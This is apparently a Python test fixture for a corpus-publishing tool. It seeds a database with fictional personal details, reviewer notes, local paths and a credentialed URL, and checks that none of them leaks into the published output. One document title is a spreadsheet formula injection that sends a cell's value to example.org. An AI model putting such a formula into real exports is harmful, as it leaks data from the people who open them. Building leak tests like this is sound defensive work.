"""A corpus with things that must not get out, and its publication."""

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from corpus.store import reading, writing
from corpus.study import Study
from publish.public.publication import Publication, publish
from tests.publish.site_corpus import EVIL, Made, _document, _file, _mention, _page, make

OGL = "Open Government Licence v3.0"
SECRETS = {
    "url": "file:///home/olga/county/minutes%20of%20may.pdf",
    "note": "Olga doubts it: ring her on Tuesday about this one",
    "visit": "https://intranet.example/restricted/exempt-item-77",
    "furniture": "Running head of the exempt appendix, page Quirrelby",
    "message": "PDFium: /home/olga/county/broken.pdf",
    "reason": "asked for by the family of the Quirrelbys",
    "coder": "olga.bramhall",
    "email": "doreen.h@mail.example",
    "ni": "AB123456C",
    "resident": "Doreen Haverstock",
    "street": "14 Larkspur Close",
    "uncounted": "Nobody quotes this sentence about the weather in Netherby",
    "taken": "Zanzibarian rent arrears of the Thackwrays",
    "gone-page": "Wombatish remarks on the first page",
}
"""Words that stand in the corpus, and must stand nowhere in what is published of it."""
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"see")'
NOTICE = (
    "A tool for predictive analytics. Contact Mrs Doreen Haverstock, 14 Larkspur Close, Netherby "
    "or doreen.h@mail.example; National Insurance AB123456C. Bids by 1 May 2024."
)
PAPER = (
    f"{SECRETS['uncounted']}, {'and so on for many lines. ' * 20}\n"
    "The council uses predictive analytics to find people. The tenant, Mrs Doreen Haverstock, "
    f"objected.\n{'Further words of no interest follow here. ' * 20}"
)
UNSURE = (
    "Line one of the record.\nGlenholm Barraclose, 8 Dell Lane\nwas visited under the scheme.\n"
    "Another line.\nThe last line on predictive analytics stays."
)


@dataclass
class Out:
    """A corpus, its study, its publication."""

    made: Made
    study: Study
    public: Path
    done: Publication
    ids: dict[str, str] = field(default_factory=dict)


def empty_study(folder: Path) -> Study:
    """A study that says nothing but what lies in its folder."""
    folder.mkdir(exist_ok=True)
    return Study(folder, {}, {}, None)  # type: ignore[arg-type] # no codebook is asked for


def publication(folder: Path) -> Out:
    """Make the corpus and publish it."""
    place = folder / "olga"
    place.mkdir()
    made = make(place / "corpus.db")
    study = empty_study(folder / "study")
    out = Out(made, study, place / "public.db", None)  # type: ignore[arg-type] # set below
    _more(out)
    takedowns = f"taken-1,withhold,asked,2026-01-02\n{out.ids['gone-page']},withhold,asked,\n"
    head = "item,action,reason,asked_on\n"
    (study.folder / "takedowns.csv").write_text(head + takedowns, encoding="utf-8")
    out.done = republish(out)
    return out


def republish(out: Out, **options: Any) -> Publication:
    """Publish again."""
    with reading(out.made.path) as store:
        return publish(store, out.study, out.public, **options)


def _more(out: Out) -> None:
    with writing(out.made.path, "test") as store, store.db.atomic():
        store.db.table("sources").insert(
            {"source": "contracts-finder", "title": "Notices", "kind": "notices", "licence": OGL}
        )
        for name, text, source in (
            ("notice", NOTICE, "contracts-finder"),
            ("paper", PAPER, "modgov"),
            ("unsure", UNSURE, "contracts-finder"),
            ("taken", f"predictive analytics. {SECRETS['taken']}.", "contracts-finder"),
            ("gone-page", f"predictive analytics. {SECRETS['gone-page']}.", "contracts-finder"),
        ):
            _paper(store, out, name, text, source)
        _rest(store, out)


def _paper(store: Any, out: Out, name: str, text: str, source: str) -> None:
    document = f"{name}-1"
    more = {"outcome": "read", "pages": 1, "chars": len(text)}
    sha256 = _file(store, text.encode(), document, "text/plain", ".txt", **more)
    titles = {"paper": f"About {SECRETS['resident']}", "unsure": FORMULA}
    title = titles.get(name, f"The {name}")
    urls = {"url": SECRETS["url"], "origin_url": "https://olga:pw@example.org/a"}
    _document(store, document, sha256, source=source, title=title, **urls)
    page = _page(store, sha256, 1, text, furniture=SECRETS["furniture"])
    mention = _mention(store, page, sha256, text, 1, before="", after="")
    start = max(text.index("\n") + 1, 0) if name == "paper" else 0
    end = text.index(".\n", start) + 1 if name == "paper" else len(text)
    row = {"passage": mention, "page": page, "document": document, "council": "KEN"}
    row |= {"text": text[start:end], "start": start, "end": end, "words": 9, "stance": "uses"}
    store.db.table("passages").insert(row | {"codes": json.dumps(["predictive_analytics"])})
    out.ids |= {name: page, f"{name}-document": document, f"{name}-sha256": sha256}


def _rest(store: Any, out: Out) -> None:
    page = out.ids["paper"]
    coding = {"coding": "c1", "document": "paper-1", "page": page, "quote": "predictive analytics"}
    coding |= {"code": "about", "value": "yes", "coder": SECRETS["coder"], "state": "anchored"}
    coding |= {"note": SECRETS["note"], "file": f"{SECRETS['coder']}.csv"}
    coding |= {"coded_at": "2026-01-01T00:00:00Z", "prefix": EVIL, "suffix": "."}
    store.db.table("codings").insert(coding)
    store.db.execute("update claims set reviewer = ?", (SECRETS["coder"],))
    store.db.execute("update claim_mentions set why = ?", (SECRETS["note"],))
    store.db.table("visits").insert({"visit": 1, "source": "modgov", "url": SECRETS["visit"]})
    store.db.table("failures").insert_all(
        [
            {"stage": "read", "subject": out.ids["paper-sha256"], "error": "Broken"}
            | {"message": SECRETS["message"]},
            {"stage": "import", "subject": "/home/olga/county/x.pdf", "error": "Broken"},
        ]
    )
    store.db.table("tombstones").upsert(
        {"document": "ken-modgov-gone", "sha256": "", "reason": SECRETS["reason"]},
        pk=("document", "sha256"),
    )
    store.db.table("entities").insert({"entity": "acme", "kind": "supplier", "name": "ACME"})
    people = ("Mrs Doreen Haverstock, 14 Larkspur Close", "Mrs Olga Bramhall, 7 Dell Lane")
    store.db.table("entity_names").insert_all({"entity": "acme", "name": name} for name in people)
    store.db.execute("update topics set label_by = ? where number = 2", (SECRETS["coder"],))
